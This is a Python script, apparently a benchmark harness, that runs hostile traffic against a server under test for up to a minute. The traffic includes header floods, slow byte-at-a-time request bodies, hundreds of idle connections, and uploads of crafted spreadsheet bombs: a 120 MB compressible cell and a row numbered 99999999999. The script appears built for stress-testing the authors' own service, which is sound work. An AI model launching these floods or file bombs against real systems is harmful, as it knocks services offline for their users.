"""Strangers and clumsy callers at the door: each kind takes what it can get of a server.

A program of its own (``python -m bench.hostile KIND URL PATH TOKEN``), so that it shares no
interpreter with who measures; it goes on until it is ended, and at most a minute. Every kind is
bounded by its connections, not by its speed.
"""

import asyncio
import io
import secrets
import sys
import zipfile
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import NamedTuple
from urllib.parse import urlsplit

import httpx
import uvloop

GOES_ON_AT_MOST_S = 60.0
FLOODING, SILENT, UPLOADING = 8, 300, 2  # connections
HEADER_CHUNK = b"".join(b"X-Filling-%d: %s\r\n" % (n, b"x" * 200) for n in range(70))
BODY_BYTES, BODY_EVERY_S = 1_000_000, 0.5
CELL_BYTES = 120 * 1024 * 1024
RUN_OF_ONE_LETTER = 1_500  # between what cannot be packed: a cell that packs some eighty times
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


class Victim:
    """The server, the path of a run's lines in it, a token that may load them, and a file that is
    to harm it."""

    def __init__(self, url: str, path: str, token: str, workbook: bytes) -> None:
        self.url, self.path, self.token, self.workbook = url, path, token, workbook
        address = urlsplit(url)
        self.host, self.port = address.hostname or "", address.port or 0

    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        return await asyncio.open_connection(self.host, self.port)


async def endless_headers(victim: Victim) -> None:
    """A head without an end, as fast as it is taken; a new connection when one is closed."""
    _, writer = await victim.connect()
    writer.write(b"GET /healthz HTTP/1.1\r\n")
    try:
        while True:
            writer.write(HEADER_CHUNK)
            await writer.drain()
    finally:
        writer.close()


async def held_body(victim: Victim) -> None:
    """A body that comes a byte at a time."""
    _, writer = await victim.connect()
    head = (
        f"POST {victim.path} HTTP/1.1\r\nHost: {victim.host}\r\nContent-Type: text/csv\r\n"
        f"Authorization: Bearer {victim.token}\r\nContent-Length: {BODY_BYTES}\r\n\r\n"
    )
    writer.write(head.encode())
    try:
        while True:
            writer.write(b"x")
            await writer.drain()
            await asyncio.sleep(BODY_EVERY_S)
    finally:
        writer.close()


async def silence(victim: Victim) -> None:
    """A connection on which nothing is said; a new one when it is closed."""
    reader, writer = await victim.connect()
    try:
        await reader.read()
    finally:
        writer.close()


async def upload(victim: Victim) -> None:
    headers = {"Authorization": f"Bearer {victim.token}", "Content-Type": XLSX}
    async with httpx.AsyncClient(trust_env=False, timeout=GOES_ON_AT_MOST_S) as client:
        await client.post(victim.url + victim.path, content=victim.workbook, headers=headers)


# ---- files


def _large_cell() -> str:
    """One cell that packs well, and not so well that the parts' ratio gives it away."""
    filling = "x" * RUN_OF_ONE_LETTER
    piece = len(filling) + 32
    return _sheet("1", "".join(secrets.token_hex(16) + filling for _ in range(CELL_BYTES // piece)))


def _far_row() -> str:
    return _sheet("99999999999", "x")


def _sheet(row: str, text: str) -> str:
    return (
        f'<worksheet xmlns="{_MAIN}"><sheetData><row r="{row}"><c t="inlineStr"><is><t>{text}</t>'
        "</is></c></row></sheetData></worksheet>"
    )


def _workbook(sheet: str) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as parts:
        for name, content in _PARTS.items():
            parts.writestr(name, content)
        parts.writestr("xl/worksheets/sheet1.xml", sheet)
    return packed.getvalue()


_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_PARTS = {
    "[Content_Types].xml": f'<Types xmlns="{_PACKAGE}/content-types">'
    '<Default Extension="rels"'
    ' ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/></Types>',
    "_rels/.rels": f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="r1"'
    f' Type="{_OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": f'<workbook xmlns="{_MAIN}" xmlns:r="{_OFFICE}"><sheets>'
    '<sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_PACKAGE}/relationships">'
    f'<Relationship Id="r1" Type="{_OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
    "</Relationships>",
}


class HostileKind(NamedTuple):
    """What is done, on how many connections at once, and the sheet of the file that it takes."""

    act: Callable[[Victim], Awaitable[None]]
    connections: int
    sheet: Callable[[], str] = str


KINDS = {
    "header flood": HostileKind(endless_headers, FLOODING),
    "held bodies": HostileKind(held_body, SILENT),
    "silent connections": HostileKind(silence, SILENT),
    "cells of 120 MB": HostileKind(upload, UPLOADING, _large_cell),
    "row bombs": HostileKind(upload, UPLOADING, _far_row),
}


async def _again_and_again(act: Callable[[Victim], Awaitable[None]], victim: Victim) -> None:
    while True:
        with suppress(OSError, httpx.HTTPError):
            await act(victim)
        await asyncio.sleep(0)


async def _harass(kind: HostileKind, victim: Victim) -> None:
    async with asyncio.timeout(GOES_ON_AT_MOST_S), asyncio.TaskGroup() as group:
        for _ in range(kind.connections):
            group.create_task(_again_and_again(kind.act, victim))


def main(name: str, url: str, path: str, token: str) -> None:
    kind = KINDS[name]
    victim = Victim(url, path, token, _workbook(kind.sheet()))
    print("at it", flush=True)
    with suppress(TimeoutError):
        uvloop.run(_harass(kind, victim))


if __name__ == "__main__":
    main(*sys.argv[1:])
